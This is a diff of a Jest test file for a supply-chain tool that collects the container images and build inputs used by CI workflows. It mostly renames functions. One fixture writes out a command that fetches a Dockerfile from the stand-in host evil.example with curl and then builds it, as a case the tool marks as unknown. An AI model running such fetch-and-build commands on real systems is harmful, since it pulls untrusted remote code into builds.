@@ -3,7 +3,7 @@ import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { afterEach, describe, expect, test } from '@jest/globals';
-import { collectBuildInputs } from '../../../src/builds/materials/collect.js';
+import { collectMaterials } from '../../../src/builds/materials/collect.js';
 import { discover } from '../../../src/discover/discover.js';
 
 const folders: string[] = [];
@@ -15,18 +15,20 @@ afterEach(() => {
 const DIGEST = `sha256:${'a'.repeat(64)}`;
 
 /** What a repository builds with, by kind and name, and what is not known. */
-async function inputsOf(files: Readonly<Record<string, string>>) {
+async function materialsOf(files: Readonly<Record<string, string>>) {
   const root = mkdtempSync(join(tmpdir(), 'reach-'));
   folders.push(root);
   for (const [path, text] of Object.entries(files)) {
     mkdirSync(dirname(join(root, path)), { recursive: true });
     writeFileSync(join(root, path), text);
   }
-  const { inputs, gaps } = await collectBuildInputs(root, await discover(root));
+  const { materials, gaps } = await collectMaterials(root, await discover(root));
   return {
     gaps,
-    inputs,
-    lines: inputs.map(({ location, kind, what, pin }) => `${location.path} ${kind} ${what} ${pin}`),
+    materials,
+    lines: materials.map(
+      ({ location, kind, what, pin }) => `${location.path} ${kind} ${what} ${pin}`,
+    ),
   };
 }
 
@@ -44,7 +46,7 @@ describe('an action of the repository that runs in a container', () => {
   const steps = '- uses: ./act\n- run: docker build .';
 
   test('uses its image', async () => {
-    const { lines } = await inputsOf({
+    const { lines } = await materialsOf({
       Dockerfile: 'FROM a:1\n',
       [ACTION]: "runs: { using: Docker, image: 'docker://evil.example/x' }\n",
       [CI]: workflow(steps),
@@ -53,7 +55,7 @@ describe('an action of the repository that runs in a container', () => {
   });
 
   test('is a build of its Dockerfile', async () => {
-    const { lines } = await inputsOf({
+    const { lines } = await materialsOf({
       Dockerfile: 'FROM a:1\n',
       'act/Build.df': 'FROM evil.example/x\n',
       [ACTION]: 'runs: { using: docker, image: Build.df }\n',
@@ -63,7 +65,7 @@ describe('an action of the repository that runs in a container', () => {
   });
 
   test('can be the root of the repository', async () => {
-    const { lines } = await inputsOf({
+    const { lines } = await materialsOf({
       Dockerfile: 'FROM a:1\n',
       'action.yml': "runs: { using: docker, image: 'docker://evil.example/x' }\n",
       [CI]: workflow('- uses: ./\n- run: docker build .'),
@@ -80,7 +82,7 @@ describe('the inputs of an action of Docker', () => {
     ['in quotes', `build-args: '"X=evil.example/x"'`],
     ['in quotes, one of several', `build-args: "A=1\\n\\"X=evil.example/x\\""`],
   ])('are read %s', async (_, input) => {
-    const { lines } = await inputsOf({
+    const { lines } = await materialsOf({
       Dockerfile: base,
       [CI]: workflow(`- uses: docker/build-push-action@v6\n  with: { context: ., ${input} }`),
     });
@@ -88,7 +90,7 @@ describe('the inputs of an action of Docker', () => {
   });
 
   test('name contexts in any case', async () => {
-    const { lines } = await inputsOf({
+    const { lines } = await materialsOf({
       Dockerfile: `FROM debian@${DIGEST}\n`,
       [CI]: workflow(
         `- uses: docker/build-push-action@v6\n  with: { context: ., BUILD-CONTEXTS: 'debian@${DIGEST}=docker-image://evil.example/x' }`,
@@ -105,7 +107,7 @@ describe('the folder of a script', () => {
     ['the workflow sets', 'defaults: { run: { working-directory: sub } }\n', ''],
     ['pushd enters', '', 'pushd sub; '],
   ])('is the one that %s', async (_, head, enter) => {
-    const { lines } = await inputsOf({
+    const { lines } = await materialsOf({
       ...files,
       [CI]: workflow(`- run: ${enter}docker build --build-arg X=1 .`, head),
     });
@@ -119,7 +121,7 @@ describe('the folder of a script', () => {
     'cd ${{ github.workspace }} && docker build --build-arg X=1 sub',
     'pushd inner; popd; docker build --build-arg X=1 ../sub',
   ])('is left for the root of the repository: %s', async (run) => {
-    const { lines, gaps } = await inputsOf({
+    const { lines, gaps } = await materialsOf({
       ...files,
       'job/readme': '',
       [CI]: workflow(`- run: ${run}\n  working-directory: job`),
@@ -140,17 +142,17 @@ describe('a named context that replaces a stage', () => {
     ['copied from', 'FROM scratch\nCOPY --from=base /a /a\n', '', 'builder'],
     ['mounted', 'FROM scratch\nRUN --mount=from=base,target=/a true\n', '', 'builder'],
   ])('is an input: %s', async (_, rest, more, use) => {
-    const { inputs } = await inputsOf({
+    const { materials } = await materialsOf({
       Dockerfile: `FROM debian@${DIGEST} AS base\n${rest}`,
       ...context(more),
     });
-    expect(inputs).toContainEqual(
+    expect(materials).toContainEqual(
       expect.objectContaining({ kind: 'image', what: 'evil.example/x', use }),
     );
   });
 
   test('is none where no stage of the build needs it', async () => {
-    const { lines } = await inputsOf({
+    const { lines } = await materialsOf({
       Dockerfile: `FROM debian@${DIGEST} AS base\nFROM a:1\n`,
       ...context(''),
     });
@@ -165,7 +167,7 @@ test.each([
   'echo FROM evil.example | tee Dockerfile; docker build .',
   'curl -o Dockerfile https://evil.example/x; docker build .',
 ])('a Dockerfile that the script writes first is not known: %s', async (script) => {
-  const { lines, gaps } = await inputsOf({
+  const { lines, gaps } = await materialsOf({
     Dockerfile: `FROM debian@${DIGEST}\n`,
     [CI]: workflow(`- run: |\n    ${script}`),
   });
@@ -176,7 +178,7 @@ test.each([
 });
 
 test('a Dockerfile that the script writes later, or elsewhere, is known', async () => {
-  const { lines, gaps } = await inputsOf({
+  const { lines, gaps } = await materialsOf({
     Dockerfile: `FROM debian@${DIGEST}\n`,
     [CI]: workflow('- run: cp Dockerfile other; docker build . > log; cp log Dockerfile'),
   });
@@ -187,7 +189,7 @@ test('a Dockerfile that the script writes later, or elsewhere, is known', async 
 test.each(['sbom: generator=gen.example/x', "attests: 'type=sbom,generator=gen.example/x'"])(
   'the image that makes the SBOM is an input: %s',
   async (input) => {
-    const { lines } = await inputsOf({
+    const { lines } = await materialsOf({
       Dockerfile: 'FROM a:1\n',
       [CI]: workflow(`- uses: docker/build-push-action@v6\n  with:\n    context: .\n    ${input}`),
     });
@@ -205,7 +207,7 @@ test.each([
   'docker buildx create --driver-opt network=host,image=gen.example/x && docker build .',
   'docker buildx create --driver-opt=image=gen.example/x && docker build .',
 ])('the image of a helper of a script is an input: %s', async (script) => {
-  const { lines } = await inputsOf({
+  const { lines } = await materialsOf({
     Dockerfile: 'FROM a:1\n',
     [CI]: workflow(`- run: ${JSON.stringify(script)}`),
   });
@@ -213,7 +215,7 @@ test.each([
 });
 
 test('an argument that is called like a generator is no image', async () => {
-  const { lines } = await inputsOf({
+  const { lines } = await materialsOf({
     Dockerfile: 'FROM a:1\n',
     [CI]: workflow(
       '- run: docker build --build-arg generator=gen.example/x --label image=b.example/x .',
